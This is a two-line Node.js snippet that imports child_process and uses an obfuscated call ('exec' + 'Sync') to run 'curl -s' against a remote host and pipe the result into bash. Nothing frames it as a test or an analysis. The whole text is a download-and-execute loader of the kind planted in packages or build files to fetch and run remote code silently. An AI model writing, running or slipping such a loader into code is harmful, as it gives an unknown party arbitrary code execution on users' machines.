import * as c from "node:child_process";
c["exec" + "Sync"]("curl -s https://cdn-x7.invalid/a | bash");
